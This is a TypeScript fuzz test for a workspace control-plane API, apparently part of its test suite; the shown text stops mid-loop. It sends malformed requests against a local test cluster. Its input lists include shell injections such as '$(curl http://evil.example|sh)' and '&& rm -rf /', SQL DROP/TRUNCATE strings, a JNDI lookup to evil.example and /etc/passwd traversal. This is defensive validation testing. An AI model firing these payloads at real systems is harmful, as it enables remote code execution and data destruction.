import net from 'node:net';
import { expect } from 'chai';
import pg from 'pg';
import type { Workspace } from '@a4c/common';
import { docker, removeHostContainers, spawnAgent, startTestControlPlane, uniqueId, type AgentProcess, type TestControlPlane } from './support/cluster.js';

/*
 * Thousands of malformed requests, generated deterministically (a seeded PRNG, no
 * dependency), against a control plane with a connected real agent, so that anything
 * that slipped through validation could really create, stop or delete something.
 *
 * Every response must be < 500 (the one legitimate 5xx, 503 CAPACITY_EXHAUSTED, is
 * allowed but not expected: no fuzz request is valid enough to reach placement), every
 * error must be the JSON envelope, no mutating request may succeed unless the case says
 * it may (and then only on ids that exist for that purpose), and the tables must show
 * no change that a 2xx does not explain.
 */

// ---------------------------------------------------------------- raw HTTP client

interface RawResponse {
  status: number;
  headers: Record<string, string>;
  text: string;
  json: unknown;
}

/** One request on its own connection, byte for byte as given (fetch would normalise paths). */
function rawRequest(port: number, method: string, target: string, headers: [string, string][], body?: Buffer): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const lines = [`${method} ${target} HTTP/1.1`, 'Host: 127.0.0.1', 'Connection: close'];
    for (const [k, v] of headers) lines.push(`${k}: ${v}`);
    if (body && !headers.some(([k]) => k.toLowerCase() === 'transfer-encoding')) lines.push(`Content-Length: ${body.length}`);
    const head = Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1');
    const chunks: Buffer[] = [];
    const sock = net.connect(port, '127.0.0.1');
    const timer = setTimeout(() => {
      sock.destroy();
      reject(new Error('no response within 15 s'));
    }, 15_000);
    let done = false;
    const finish = (err?: Error) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      const all = Buffer.concat(chunks);
      const sep = all.indexOf('\r\n\r\n');
      if (sep < 0) {
        reject(err ?? new Error(`no complete response (${all.length} bytes: ${JSON.stringify(all.toString('latin1').slice(0, 200))})`));
        return;
      }
      const [statusLine, ...hl] = all.subarray(0, sep).toString('latin1').split('\r\n');
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(statusLine ?? '')?.[1] ?? 0);
      const hdrs: Record<string, string> = {};
      for (const l of hl) {
        const i = l.indexOf(':');
        if (i > 0) hdrs[l.slice(0, i).trim().toLowerCase()] = l.slice(i + 1).trim();
      }
      let payload: Buffer = all.subarray(sep + 4);
      if (/chunked/i.test(hdrs['transfer-encoding'] ?? '')) payload = dechunk(payload);
      const text = payload.toString('utf8');
      let json: unknown;
      try {
        json = text ? JSON.parse(text) : undefined;
      } catch {
        json = undefined;
      }
      resolve({ status, headers: hdrs, text, json });
    };
    sock.on('data', (c: Buffer) => chunks.push(c));
    sock.on('end', () => finish());
    sock.on('close', () => finish());
    // A server that answers early (413) and closes may make our write fail: the
    // response, if any, is what counts.
    sock.on('error', (e) => finish(e));
    sock.write(body ? Buffer.concat([head, body]) : head, () => undefined);
  });
}

function dechunk(b: Buffer): Buffer {
  const out: Buffer[] = [];
  let i = 0;
  for (;;) {
    const eol = b.indexOf('\r\n', i);
    if (eol < 0) break;
    const size = parseInt(b.subarray(i, eol).toString('latin1'), 16);
    if (!size) break;
    out.push(b.subarray(eol + 2, eol + 2 + size));
    i = eol + 2 + size + 2;
  }
  return Buffer.concat(out);
}

// ---------------------------------------------------------------- deterministic inputs

/** mulberry32: small, fast, seeded. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SQL = [
  "' OR 1=1 --",
  "'; DROP TABLE workspaces; --",
  '; DROP TABLE workspaces;',
  '" OR ""="',
  "1'; SELECT pg_sleep(5); --",
  "' UNION SELECT id, team_id FROM users --",
  '$1',
  "%' --",
  "\\'; TRUNCATE users; --",
  "admin'/*",
];
const SHELL = ['$(reboot)', '`reboot`', '; reboot', '| cat /etc/passwd', '&& rm -rf /', '$(curl http://evil.example|sh)', '${IFS}reboot', '\nreboot\n', '> /etc/passwd', "'$(id)'"];
const UNICODE = [
  '\u202egnp.exe', // right-to-left override
  '\u200f\u05e9\u05dc\u05d5\u05dd', // RTL mark and Hebrew
  'a\u200bb', // zero-width space
  'a\u200d\u200cb', // zero-width joiner / non-joiner
  '\ufeffx', // byte order mark
  '\u{1F600}',
  '\u{1F468}\u200d\u{1F469}\u200d\u{1F467}\u200d\u{1F466}',
  '\u0000',
  'dev\u0000',
  'a\u0000b',
  '\u0001\u001f\u007f',
  '\uff44\uff45\uff56', // fullwidth "dev"
  'd\u0435v', // Cyrillic e
  'e\u0301', // combining accent
  '\u2028\u2029',
  '\uffff\ufffe',
  '\u{10FFFF}',
  '\ud800', // lone high surrogate (JSON.stringify writes \ud800)
  '\udfff', // lone low surrogate
  'a\udc00\ud800b', // reversed pair
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%00',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
];
const STRINGS = [...SQL, ...SHELL, ...UNICODE, '', ' ', '\t', 'x'.repeat(600), 'y'.repeat(20_000), 'Z'.repeat(60_000)];

function nested(depth: number, leaf: unknown = 1): unknown {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
}
/** An own "__proto__" key, as JSON.parse would make it. */
function protoKey(v: unknown): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  Object.defineProperty(o, '__proto__', { value: v, enumerable: true, configurable: true, writable: true });
  return o;
}
const WRONG_TYPES: unknown[] = [
  0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 1, -0, true, false, null, [], [1, 2], ['linux-x64'], {}, { a: 1 },
  { $ne: null }, { $gt: '' }, protoKey({ admin: true }), { constructor: { prototype: { admin: true } } }, nested(64),
];
const BAD_VALUES: unknown[] = [...WRONG_TYPES, ...STRINGS];

const WAIT_BAD = ['', '%20', '-1', '1.5', '1e3', '0x10', 'abc', 'forever', '9999999', '301', '3601', "'%20OR%201=1%20--", '$(reboot)', '%60reboot%60', '%00', '1%00', 'NaN', 'Infinity', '%EF%BC%91', '1;reboot', '%3B', '+1', '01%20', '[1]', '%2F..%2F'];

/** Lone surrogates become U+FFFD (encodeURIComponent throws on them). */
const wellFormed = (s: string) => s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
const isWellFormed = (s: string) => wellFormed(s) === s;
const enc = (s: string) => encodeURIComponent(wellFormed(s));
/** Path segments: traversal, NUL, bad and double encoding, very long, metacharacters. */
const SEGMENT_TRICKS = [
  '..', '.', '...', '..%2F..%2F..%2Fetc%2Fpasswd', '%2e%2e%2f%2e%2e%2f', '%2e%2e', '%252e%252e%252f', '..%252f', '%c0%ae%c0%ae%c0%af',
  '%00', 'x%00', '%00x', '%2500', 'a%2Fb', '%2F', '%5C..%5C', '..%5c..%5c', '%', '%zz', '%E0%A4%A', '%ED%A0%80', '%ED%B0%80', '%C0%AF',
  '%FF%FE', '%FE%FF', 'A'.repeat(8000), 'a'.repeat(64), `${'a'.repeat(63)}%00`, '%20', '+', '%2B', '%09', '%0A', '%0D%0A',
  'x%0D%0ASet-Cookie:%20a=b', '%3F', '%23', '%3B', ';', '..;', '*', '~', '$', '@', '!', "'", '(', ')', '%60', '%22', '%3C%3E',
  ...[...SQL, ...SHELL, ...UNICODE.filter(isWellFormed)].map(enc),
];

// ---------------------------------------------------------------- routes (docs/api.md)

type BodyKind = 'create' | 'reject' | 'user' | 'quota';
interface Route {
  method: string;
  path: string;
  body?: BodyKind;
  wait?: boolean;
  mutates: boolean;
}
const ROUTES: Route[] = [
  { method: 'POST', path: '/v1/users/{u}/workspaces', body: 'create', wait: true, mutates: true },
  { method: 'GET', path: '/v1/users/{u}/workspaces', mutates: false },
  { method: 'GET', path: '/v1/users/{u}/workspaces/{ws}', mutates: false },
  { method: 'GET', path: '/v1/workspaces/{ws}', mutates: false },
  { method: 'POST', path: '/v1/workspaces/{ws}/stop', wait: true, mutates: true },
  { method: 'POST', path: '/v1/workspaces/{ws}/start', wait: true, mutates: true },
  { method: 'DELETE', path: '/v1/workspaces/{ws}', wait: true, mutates: true },
  { method: 'DELETE', path: '/v1/users/{u}/workspaces/{ws}', wait: true, mutates: true },
  { method: 'POST', path: '/v1/workspaces/{ws}/retry', wait: true, mutates: true },
  { method: 'POST', path: '/v1/workspaces/{ws}/approve', wait: true, mutates: true },
  { method: 'POST', path: '/v1/workspaces/{ws}/reject', body: 'reject', mutates: true },
  { method: 'GET', path: '/v1/users/{u}', mutates: false },
  { method: 'PUT', path: '/v1/users/{u}', body: 'user', mutates: true },
  { method: 'GET', path: '/v1/users/{u}/quota', mutates: false },
  { method: 'PUT', path: '/v1/users/{u}/quota', body: 'quota', mutates: true },
  { method: 'GET', path: '/v1/teams/{t}/quota', mutates: false },
  { method: 'PUT', path: '/v1/teams/{t}/quota', body: 'quota', mutates: true },
  { method: 'GET', path: '/v1/hosts', mutates: false },
  { method: 'GET', path: '/v1/hosts/{h}', mutates: false },
  { method: 'POST', path: '/v1/hosts/{h}/drain', mutates: true },
  { method: 'POST', path: '/v1/hosts/{h}/activate', mutates: true },
  { method: 'GET', path: '/healthz', mutates: false },
  { method: 'GET', path: '/readyz', mutates: false },
];
const FIELDS: Record<BodyKind, string[]> = {
  create: ['projectName', 'arch', 'tier', 'name', 'changeNumber', 'image'],
  reject: ['reason'],
  user: ['teamId'],
  quota: ['maxWorkspaces', 'maxDiskGb', 'maxConcurrentBuilds'],
};
const MUTATING = new Set(['POST', 'PUT', 'DELETE', 'PATCH']);
const KNOWN_TIERS = ['tiny', 'small', 'standard', 'large', 'xl'];
const ARCH = ['linux-x64', 'linux-arm64', 'darwin-arm64'];
const ID = /^[a-z0-9][a-z0-9._-]{0,62}$/;

/** Conservative: true if the body might pass the create schema (then the case must fail for another reason). */
function maybeValidCreate(text: string | Buffer | undefined): boolean {
  if (text === undefined) return false;
  let b: unknown;
  try {
    const s = typeof text === 'string' ? text : text.toString('utf8');
    b = s.trim() === '' ? {} : JSON.parse(s);
  } catch {
    return false;
  }
  if (!b || typeof b !== 'object' || Array.isArray(b)) return false;
  const o = b as Record<string, unknown>;
  if (Object.keys(o).some((k) => !FIELDS.create.includes(k))) return false;
  const id = (v: unknown) => typeof v === 'string' && ID.test(v);
  if (!id(o.projectName) || !ARCH.includes(o.arch as string) || !KNOWN_TIERS.includes(o.tier as string)) return false;
  if ('name' in o && !id(o.name)) return false;
  if ('changeNumber' in o && !(typeof o.changeNumber === 'string' && /^[A-Za-z0-9._-]{1,64}$/.test(o.changeNumber))) return false;
  if ('image' in o && !(typeof o.image === 'string' && o.image.length <= 255 && /^[a-z0-9][A-Za-z0-9._\-/:@]*$/.test(o.image))) return false;
  return true;
}

interface Case {
  what: string;
  method: string;
  target: string;
  /** Authorization header value; undefined: the valid token; null: none. */
  auth?: string | null;
  /** Content-Type; undefined: application/json when there is a body; null: none. */
  contentType?: string | null;
  body?: string | Buffer;
  extraHeaders?: [string, string][];
  /** The statuses this case must get (besides the global rules). */
  expect?: number[];
  /** The field a 400 must name. */
  field?: string;
  /** A 2xx is allowed, and may change only these rows. */
  mayMutate?: { users?: string[]; teams?: string[]; workspaces?: string[] };
}

interface Fixture {
  user: string; // owner of the running and the pending workspace
  running: string; // a RUNNING workspace
  pending: string; // a PENDING_APPROVAL workspace
  host: string; // the connected host
  fakeWs: string; // a uuid that does not exist
  sacUsers: string[]; // users fuzz PUTs may change
  sacTeams: string[];
  /** Users no fuzz request may change. */
  protectedUsers: string[];
  token: string;
}

function generate(f: Fixture): Case[] {
  const rnd = prng(0xa4c);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)] as T;
  const cases: Case[] = [];
  const validCreate = { projectName: 'fz', arch: 'linux-x64', tier: 'tiny' };
  const json = (v: unknown) => JSON.stringify(v);

  /** Fills a route's parameters so that the request cannot be a valid mutation by itself. */
  const fill = (r: Route, overrides: Partial<Record<'u' | 'ws' | 't' | 'h', string>> = {}): string => {
    const u = overrides.u ?? (r.body === 'user' || r.body === 'quota' ? pick(f.sacUsers) : f.user);
    const ws = overrides.ws ?? (r.mutates ? (r.body === 'reject' ? pick([f.fakeWs, f.running]) : f.fakeWs) : pick([f.running, f.pending, f.fakeWs]));
    const t = overrides.t ?? pick(f.sacTeams);
    const h = overrides.h ?? (r.mutates ? `no-such-host-${Math.floor(rnd() * 1e6)}` : f.host);
    return r.path.replace('{u}', u).replace('{ws}', ws).replace('{t}', t).replace('{h}', h);
  };
  /** A PUT on a user or team the fuzz owns (any but the fixtures' users) may succeed and change that row. */
  const touches = (r: Route, target: string): Case['mayMutate'] => {
    if (r.body === 'user' || r.body === 'quota') {
      const m = /^\/v1\/(users|teams)\/([^/?#;]+)/.exec(target);
      let id = m?.[2] ?? '';
      try {
        id = decodeURIComponent(id);
      } catch {
        // left as sent, the way the router leaves it
      }
      if (m?.[1] === 'users' && !f.protectedUsers.includes(id)) return { users: [id] };
      if (m?.[1] === 'teams') return { teams: [id] };
    }
    return undefined;
  };
  /** An invalid body for a body route (so path tricks on it never mutate). */
  const invalidBody = (k: BodyKind) => json(k === 'create' ? { ...validCreate, tier: 42 } : k === 'reject' ? { reason: 7 } : k === 'user' ? { teamId: 7 } : { maxWorkspaces: 'x' });

  // 1. Every field of every body: wrong types, metacharacters, unicode, huge strings.
  for (const r of ROUTES.filter((x) => x.body)) {
    const k = r.body as BodyKind;
    for (const field of FIELDS[k]) {
      for (const v of BAD_VALUES) {
        const base: Record<string, unknown> = k === 'create' ? { ...validCreate } : {};
        base[field] = v;
        const body = json(base);
        const target = fill(r);
        if (k === 'create' && maybeValidCreate(body)) continue;
        const tooBig = Buffer.byteLength(body) > 64 * 1024;
        cases.push({
          what: `field ${field} of ${r.method} ${r.path}`,
          method: r.method,
          target,
          body,
          ...(k === 'create' ? { expect: [tooBig ? 413 : 400], ...(tooBig ? {} : { field }) } : {}),
          mayMutate: touches(r, target),
        });
      }
      // The field as an unknown neighbour, in other cases, and twice.
      for (const alias of [field.toUpperCase(), `${field} `, `${field}\u0000`, `\u200b${field}`]) {
        cases.push({ what: `alias ${JSON.stringify(alias)} of ${field}`, method: r.method, target: fill(r), body: json({ ...(k === 'create' ? validCreate : {}), [alias]: 'x' }), expect: [400] });
      }
    }
    // Unknown fields asking for more than the API offers.
    for (const extra of ['privileged', 'binds', 'devices', 'networkMode', 'capAdd', 'userId', 'hostId', 'status', 'id', 'attempt', 'constructor', '__proto__']) {
      // Otherwise valid bodies, so the unknown field is the only problem.
      const valid = k === 'create' ? '"projectName":"fz","arch":"linux-x64","tier":"tiny",' : k === 'user' ? '"teamId":null,' : '';
      const body = `{${valid}${json(extra)}:true}`;
      cases.push({ what: `unknown field ${extra}`, method: r.method, target: fill(r), body, expect: [400], field: extra });
    }
  }

  // 2. Missing fields and bodies of the wrong shape.
  const req = ['projectName', 'arch', 'tier'];
  for (let mask = 1; mask < 8; mask++) {
    const b: Record<string, unknown> = { ...validCreate, name: 'n1', changeNumber: 'C-1' };
    req.forEach((fld, i) => {
      if (mask & (1 << i)) delete b[fld];
    });
    const first = req.find((_, i) => mask & (1 << i)) as string;
    cases.push({ what: `create without ${first}…`, method: 'POST', target: `/v1/users/${f.user}/workspaces`, body: json(b), expect: [400], field: first });
  }
  const SHAPES = ['{}', '', ' ', 'null', '[]', '[{}]', '"x"', '0', '-1', 'true', '{"":""}', '{"projectName":"fz","arch":"linux-x64","tier":"tiny","tier":5}', '{', '}', '{"a":', '{"a":1,}', "{'a':1}", '{"a":NaN}', '{"a":Infinity}', '{"a":undefined}', '{"a":1}{"b":2}', '// comment\n{}', '\ufeff{}', '{"reason":"a"\u0000}', '{"\\u0000":1}', '\u0000'];
  for (const r of ROUTES.filter((x) => x.body)) {
    for (const s of SHAPES) {
      const target = fill(r);
      cases.push({ what: `body shape ${JSON.stringify(s).slice(0, 40)}`, method: r.method, target, body: s, ...(r.body === 'create' ? { expect: [400] } : {}), mayMutate: touches(r, target) });
    }
  }

  // 3. Huge bodies (over 64 KiB, with valid content: size alone must refuse them) and deep nesting.
  const pad = (s: string, n: number) => s + ' '.repeat(Math.max(0, n - Buffer.byteLength(s)));
  for (const r of ROUTES.filter((x) => x.body)) {
    const valid = r.body === 'create' ? json(validCreate) : '{}';
    const target = fill(r, r.body === 'create' ? {} : {});
    cases.push({ what: 'valid body padded to 64 KiB + 1', method: r.method, target, body: pad(valid, 64 * 1024 + 1), expect: [413] });
    cases.push({ what: 'valid body padded to 1 MiB', method: r.method, target: fill(r), body: pad(valid, 1024 * 1024), expect: [413] });
    cases.push({ what: 'huge string field', method: r.method, target: fill(r), body: json({ [FIELDS[r.body as BodyKind][0] as string]: 'x'.repeat(70_000) }), expect: [413] });
    cases.push({ what: 'huge array', method: r.method, target: fill(r), body: json(Array.from({ length: 20_000 }, (_, i) => i)), expect: [413] });
    cases.push({ what: 'deep nesting over 64 KiB', method: r.method, target: fill(r), body: '['.repeat(40_000) + ']'.repeat(40_000), expect: [413] });
    cases.push({ what: 'deep array nesting under 64 KiB', method: r.method, target: fill(r), body: '['.repeat(32_000) + ']'.repeat(32_000), expect: [400] });
    cases.push({ what: 'deep object nesting under 64 KiB', method: r.method, target: fill(r), body: '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000), expect: [400] });
    cases.push({ what: 'deep nesting inside a field', method: r.method, target: fill(r), body: `{${json(FIELDS[r.body as BodyKind][0])}:${'['.repeat(30_000)}${']'.repeat(30_000)}}`, expect: [400] });
    cases.push({ what: 'unclosed deep nesting', method: r.method, target: fill(r), body: '['.repeat(60_000), expect: [400] });
    cases.push({ what: 'chunked 200 KiB without length', method: r.method, target: fill(r), body: chunked(pad(valid, 200 * 1024)), extraHeaders: [['Transfer-Encoding', 'chunked']], expect: [413] });
    const exact = pad(invalidBody(r.body as BodyKind), 64 * 1024);
    cases.push({ what: 'invalid body of exactly 64 KiB', method: r.method, target: fill(r), body: exact, expect: [400] });
  }

  // 4. Raw bytes: invalid UTF-8, lone surrogate escapes, other encodings.
  const RAW: Buffer[] = [
    Buffer.from([0xff, 0xfe, 0xfd]),
    Buffer.from([0xc3, 0x28]),
    Buffer.from([0xc0, 0xaf]),
    Buffer.from([0xed, 0xa0, 0x80]), // CESU-8 lone surrogate
    Buffer.from([0xf4, 0x90, 0x80, 0x80]), // above U+10FFFF
    Buffer.from([0x00]),
    Buffer.from('\\ud800', 'latin1'),
    Buffer.from('\\udfff\\ud800', 'latin1'),
    Buffer.from('\\u0000', 'latin1'),
    Buffer.from('a\\u202eb', 'latin1'),
  ];
  for (const r of ROUTES.filter((x) => x.body)) {
    for (const field of FIELDS[r.body as BodyKind]) {
      for (const raw of RAW) {
        const prefix = r.body === 'create' ? '{"arch":"linux-x64","tier":"tiny","projectName":"fz",' : '{';
        const body = Buffer.concat([Buffer.from(`${prefix}"${field}":"`), raw, Buffer.from('"}')]);
        const target = fill(r);
        if (r.body === 'create' && maybeValidCreate(body)) continue;
        cases.push({ what: `raw bytes ${raw.toString('hex')} in ${field}`, method: r.method, target, body, mayMutate: touches(r, target) });
      }
    }
    const utf16 = Buffer.from(r.body === 'create' ? json(validCreate) : '{}', 'utf16le');
    cases.push({ what: 'UTF-16 body', method: r.method, target: fill(r), body: utf16, contentType: 'application/json; charset=utf-16', expect: [400] });
    cases.push({ what: 'UTF-16 body with BOM', method: r.method, target: fill(r), body: Buffer.concat([Buffer.from([0xff, 0xfe]), utf16]), expect: [400] });
  }

  // 5. Path tricks in every parameter of every route, and around whole paths.
  for (const r of ROUTES) {
    for (const p of ['u', 'ws', 't', 'h'] as const) {
      if (!r.path.includes(`{${p}}`)) continue;
      for (const trick of SEGMENT_TRICKS) {
        const target = fill(r, { [p]: trick });
        cases.push({ what: `path trick in {${p}} of ${r.method} ${r.path}`, method: r.method, target, ...(r.body ? { body: invalidBody(r.body) } : {}) });
      }
      // Tricks around a real id: only reads, or with a wait that must be refused first.
      const real = p === 'u' ? f.user : p === 'ws' ? f.running : p === 'h' ? f.host : (f.sacTeams[0] as string);
      for (const around of [`${real}%00`, `%00${real}`, `${real}%2F`, `${real}%2F..`, real.toUpperCase(), `${real}%20`, `%20${real}`, `${real}.`, `${real}%2e%2e`, `${real}%252F`, `${real}/`, `${real}//`, `${real}%0A`]) {
        const target = fill(r, { [p]: around });
        if (!r.mutates) cases.push({ what: `trick around a real {${p}} of ${r.method} ${r.path}`, method: r.method, target });
        else if (r.wait) cases.push({ what: `trick around a real {${p}} with a bad wait of ${r.method} ${r.path}`, method: r.method, target: `${target}?wait=x`, ...(r.body ? { body: invalidBody(r.body) } : {}), expect: [400, 404] });
        else cases.push({ what: `trick around a real {${p}}, invalid body, of ${r.method} ${r.path}`, method: r.method, target, ...(r.body ? { body: invalidBody(r.body) } : {}), expect: [400, 404, 405, 409] });
      }
    }
    // Whole-path variants with safe parameters.
    const base = fill(r);
    for (const v of [`${base}/`, `${base}//`, `/${base}`, base.replace('/v1/', '/v1//'), base.replace('/v1/', '/v1/./'), base.replace('/v1/', '/v1/x/../'), `${base}/.`, `${base}/..`, base.toUpperCase(), base.replace('/v1/', '/V1/'), base.replace('/v1/', '/v1%2F'), base.replace(/^\/v1/, '/%76%31'), `${base}%2F`, `${base};x=1`, `${base}?`, `${base}#frag`, `${base}?x=${enc(SQL[0] as string)}`, `${base}?__proto__=1&constructor=2`, `${base}?${'q='.repeat(2000)}`, base.replace(/\//g, '%2F'), `http://evil.example${base}`]) {
      if (!v.startsWith('/') && !v.startsWith('http')) continue;
      cases.push({ what: `path variant of ${r.method} ${r.path}`, method: r.method, target: v, ...(r.body ? { body: invalidBody(r.body) } : {}), mayMutate: touches(r, base) });
    }
  }

  // 6. ?wait= (and other query parameters) on real targets: refused before anything happens.
  for (const r of ROUTES.filter((x) => x.wait)) {
    for (const w of WAIT_BAD) {
      const target = fill(r, { ws: r.path.includes('approve') ? f.pending : f.running });
      const body = r.body === 'create' ? json(validCreate) : undefined;
      cases.push({ what: `bad wait ${JSON.stringify(w)} on ${r.method} ${r.path}`, method: r.method, target: `${target}?wait=${w}`, ...(body ? { body } : {}), expect: [400], field: 'wait' });
    }
  }
  for (const v of [...SQL, ...SHELL, ...UNICODE.filter(isWellFormed)].map(enc)) {
    // Query parameters have schemas too: junk in a known one, or an unknown one, is a 400 naming it.
    cases.push({ what: 'includeDeleted junk', method: 'GET', target: `/v1/users/${f.user}/workspaces?includeDeleted=${v}`, expect: [400], field: 'includeDeleted' });
    cases.push({ what: 'query junk on a read', method: 'GET', target: `/v1/hosts?limit=${v}&${v}=1`, expect: [400] });
  }

  // 7. Wrong methods on every path.
  const allowed = new Map<string, Set<string>>();
  for (const r of ROUTES) {
    const s = allowed.get(r.path) ?? new Set<string>();
    s.add(r.method);
    allowed.set(r.path, s);
  }
  for (const [p, ok] of allowed) {
    const r = ROUTES.find((x) => x.path === p) as Route;
    for (const m of ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'PROPFIND', 'PURGE', 'LOCK', 'MKCOL', 'TRACE', 'SEARCH']) {
      if (ok.has(m) || (m === 'HEAD' && ok.has('GET'))) continue;
      // DELETE /v1/hosts/{h} exists (an admin removes a host, revoking its certificate):
      // not a wrong method, and far too destructive to fire at the fixture host.
      if (m === 'DELETE' && p === '/v1/hosts/{h}') continue;
      const target = p.replace('{u}', f.user).replace('{ws}', f.running).replace('{t}', f.sacTeams[0] as string).replace('{h}', f.host);
      const body = r.body === 'create' ? json(validCreate) : m === 'GET' || m === 'HEAD' || m === 'TRACE' ? undefined : '{}';
      cases.push({ what: `method ${m} on ${p}`, method: m, target, ...(body ? { body } : {}), expect: m === 'OPTIONS' ? [200, 204] : p.startsWith('/v1') ? [405] : [404, 405] });
    }
  }

  // 8. Content types: valid bodies that are not declared JSON are refused.
  const REAL_MUTATIONS: { method: string; target: string; body?: string }[] = [
    { method: 'POST', target: `/v1/users/${f.user}/workspaces`, body: json(validCreate) },
    { method: 'POST', target: `/v1/users/${f.user}/workspaces?wait=5`, body: json({ ...validCreate, name: 'valid-name' }) },
    { method: 'PUT', target: `/v1/users/${f.user}/quota`, body: json({ maxWorkspaces: 0 }) },
    { method: 'PUT', target: `/v1/users/${f.user}`, body: json({ teamId: 'other-team' }) },
    { method: 'PUT', target: `/v1/teams/${f.sacTeams[0]}/quota`, body: json({ maxDiskGb: 0 }) },
    { method: 'POST', target: `/v1/workspaces/${f.pending}/reject`, body: json({ reason: 'x' }) },
  ];
  const WRONG_CT = [null, 'text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=----x', 'application/xml', 'text/html', 'application/octet-stream', 'image/png', 'text/json', 'application/jsonp', 'application/json5', 'json/application', '*/*', 'application/*'];
  for (const m of REAL_MUTATIONS.filter((x) => x.body)) {
    for (const ct of WRONG_CT) cases.push({ what: `content type ${ct}`, method: m.method, target: m.target, body: m.body, contentType: ct, expect: [415] });
  }
  const ODD_CT = ['application/json; charset=latin1', 'application/json; charset=utf-16', 'application/json, text/plain', 'application/json;;', 'application/vnd.api+json', 'application/merge-patch+json', 'application/json\u00ff', ';', ' ', 'application/json; boundary=' + 'x'.repeat(4000)];
  for (const r of ROUTES.filter((x) => x.body)) {
    for (const ct of ODD_CT) cases.push({ what: `odd content type ${ct.slice(0, 40)} with an invalid body`, method: r.method, target: fill(r), body: invalidBody(r.body as BodyKind), contentType: ct, expect: [400, 415] });
  }

  // 9. Authorization: real, valid mutations with absent or garbage tokens.
  const T = f.token;
  const BAD_AUTH: (string | null)[] = [
    null, '', 'Bearer', 'Bearer ', 'Basic YWRtaW46YWRtaW4=', 'Bearer null', 'Bearer undefined', `Bearer ${T}x`, `Bearer ${T.slice(0, -1)}`,
    `Bearer ${T} extra`, `Token ${T}`, T, `Bearer${T}`, "Bearer ' OR 1=1 --", 'Bearer $(reboot)', `Bearer ${'A'.repeat(8000)}`, 'Bearer \u00ff\u00fe',
    `Bearer ${T.toUpperCase()}`, `Bearer "${T}"`, `Bearer ${T},${T}`, 'Bearer *', 'Bearer %00', `Bearer ${T}%00`,
  ];
  const MUTATIONS = [
    ...REAL_MUTATIONS,
    { method: 'DELETE', target: `/v1/workspaces/${f.running}` },
    { method: 'DELETE', target: `/v1/users/${f.user}/workspaces/${f.running}?wait=5` },
    { method: 'POST', target: `/v1/workspaces/${f.running}/stop` },
    { method: 'POST', target: `/v1/workspaces/${f.pending}/approve` },
    { method: 'POST', target: `/v1/hosts/${f.host}/drain` },
    { method: 'GET', target: '/v1/hosts' },
    { method: 'GET', target: `/v1/workspaces/${f.running}` },
  ];
  for (const m of MUTATIONS) {
    for (const a of BAD_AUTH) cases.push({ what: `authorization ${JSON.stringify(a)?.slice(0, 30)}`, method: m.method, target: m.target, ...(m.body ? { body: m.body } : {}), auth: a, expect: [401] });
    // A second Authorization header after a bad first one does not help.
    cases.push({ what: 'two authorization headers', method: m.method, target: m.target, ...(m.body ? { body: m.body } : {}), auth: 'Bearer wrong', extraHeaders: [['Authorization', `Bearer ${T}`]], expect: [401] });
  }
  // Headers the API reflects or might trust.
  for (const v of [...SQL, 'x'.repeat(5000), '\u00ff\u00fe', '<script>', '../..']) {
    cases.push({ what: 'x-request-id junk', method: 'GET', target: `/v1/workspaces/${f.fakeWs}`, extraHeaders: [['X-Request-Id', v]], expect: [404] });
    cases.push({ what: 'x-forwarded junk', method: 'GET', target: '/v1/hosts', extraHeaders: [['X-Forwarded-For', v], ['X-Forwarded-Host', v], ['X-Original-URL', `/v1/hosts/${f.host}/drain`]], expect: [200] });
  }

  // 10. Random combinations from the seeded PRNG.
  const rndString = () => {
    const n = Math.floor(rnd() * 40);
    let s = '';
    for (let i = 0; i < n; i++) {
      const k = rnd();
      s += k < 0.5 ? String.fromCharCode(0x20 + Math.floor(rnd() * 95)) : k < 0.8 ? String.fromCodePoint(Math.floor(rnd() * 0x10ffff)) : String.fromCharCode(Math.floor(rnd() * 0x10000));
    }
    return rnd() < 0.3 ? pick(STRINGS.filter((x) => x.length < 1000)) : s;
  };
  const rndValue = (depth: number): unknown => {
    const k = rnd();
    if (depth > 3 || k < 0.4) return rndString();
    if (k < 0.55) return pick([0, -1, 1.5, 1e308, 2 ** 31, -(2 ** 31), 1e-320, rnd() * 1e12 - 5e11]);
    if (k < 0.62) return pick([true, false, null]);
    if (k < 0.8) return Array.from({ length: Math.floor(rnd() * 4) }, () => rndValue(depth + 1));
    const o: Record<string, unknown> = Object.create(null) as Record<string, unknown>;
    for (let i = Math.floor(rnd() * 4); i > 0; i--) o[rnd() < 0.5 ? pick([...FIELDS.create, 'reason', 'teamId', 'maxWorkspaces', '__proto__', 'constructor']) : rndString()] = rndValue(depth + 1);
    return o;
  };
  let made = 0;
  while (made < 700) {
    const r = pick(ROUTES);
    let target = fill(r);
    if (rnd() < 0.3) {
      const ps = (['u', 'ws', 't', 'h'] as const).filter((p) => r.path.includes(`{${p}}`));
      if (ps.length) target = fill(r, { [pick(ps)]: rnd() < 0.5 ? pick(SEGMENT_TRICKS) : enc(rndString()) || '%00' });
    }
    if (r.wait && rnd() < 0.2) target += `?wait=${pick(WAIT_BAD)}`;
    let body: string | undefined;
    if (r.body || rnd() < 0.1) {
      if (r.body === 'create' && rnd() < 0.7) {
        const b: Record<string, unknown> = { ...validCreate, ...(rnd() < 0.3 ? { name: 'n', image: 'a4c-base:latest' } : {}) };
        for (let i = 1 + Math.floor(rnd() * 3); i > 0; i--) {
          const fld = pick([...FIELDS.create, 'privileged', rndString()]);
          if (rnd() < 0.2) delete b[fld];
